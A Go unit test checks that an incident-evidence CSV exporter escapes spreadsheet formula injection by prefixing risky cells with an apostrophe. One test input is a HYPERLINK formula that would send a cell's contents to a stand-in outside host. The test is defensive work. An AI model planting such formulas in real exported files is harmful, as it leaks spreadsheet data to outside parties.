package evidence_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/shiftsync/shiftsync/server/evidence"
	"github.com/shiftsync/shiftsync/server/shiftsync"
)

// TestWriteCSV_InertFormulas: text written on a device that a spreadsheet
// would run as a formula reaches the CSV as plain text.
func TestWriteCSV_InertFormulas(t *testing.T) {
	tests := []struct{ description, want string }{
		{`=HYPERLINK("http://example.test/?"&A1,"open")`, `'=HYPERLINK("http://example.test/?"&A1,"open")`},
		{"+1 staff", "'+1 staff"},
		{"-2 hours", "'-2 hours"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"Hit the door frame", "Hit the door frame"},
	}
	for _, tt := range tests {
		r := &shiftsync.Record{RecordRef: shiftsync.RecordRef{RecordID: "r1", RecordType: "incident"},
			Fields: map[string]shiftsync.Value{"behaviour_description": {Kind: shiftsync.KindString, String: tt.description}}}
		var b bytes.Buffer
		if err := evidence.WriteCSV(&b, shiftsync.EvidencePack{Records: []*shiftsync.Record{r}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := rows[1][len(rows[1])-1]; got != tt.want {
			t.Errorf("summary of %q = %q, want %q", tt.description, got, tt.want)
		}
	}
}
